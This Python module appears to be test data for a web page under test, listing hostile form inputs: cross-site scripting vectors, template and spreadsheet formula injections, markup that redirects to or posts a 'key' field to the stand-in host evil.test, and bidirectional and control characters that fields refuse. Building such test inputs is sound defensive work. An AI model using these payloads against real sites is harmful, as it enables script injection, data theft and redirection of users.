"""What people with bad intentions type into fields: script, markup, templates, cells of a table, long words.

Each calls `ran()` where a browser would run it; a page under test defines that, and hears of it.
"""

from typing import Final

RAN: Final = "ran()"
SHORT: Final = (
    "<script>ran()</script>",
    "<img src=x onerror=ran()>",
    "<svg/onload=ran()>",
    "\"autofocus onfocus='ran()'",
    "'-ran()-'",
    "javascript:ran()",
    "{{ran()}}${ran()}<%=ran()%>",
    "</style><script>ran()</script>",
    "=ran()|'/c ran'!A1",
    "&lt;img src=x onerror=ran()&gt;",
)
"""At most 32 characters: they fit into every field, a phone's too."""
LONG: Final = (
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "</textarea></title></style><script>ran()</script>",
    "<base href=//evil.test/><meta http-equiv=refresh content=0;url=//evil.test/>",
    "<form action=//evil.test><input name=key><button autofocus>Go</button></form>",
    "<link rel=stylesheet href=//evil.test/a.css><style>*{display:none}</style>",
    "<a href=javascript:ran() ping=//evil.test>x</a><object data=//evil.test>",
    "]]><!--<svg><style><img title='--&gt;&lt;img src=x onerror=ran()&gt;'>",
    "W" * 80,
)
"""At most 80 characters: they fit into a name."""
TEXTS: Final = (*(" ".join(SHORT[at : at + 3]) for at in range(0, len(SHORT), 3)), *LONG)
"""All of them as few names."""
REFUSED: Final = (
    "safe\u202eevas eb\u202c",
    "\u2066right\u2069 left",
    "bell\x07",
    "null\x00",
    "escape\x1b[31m",
)
"""What no field takes: a reader could be fooled by it."""
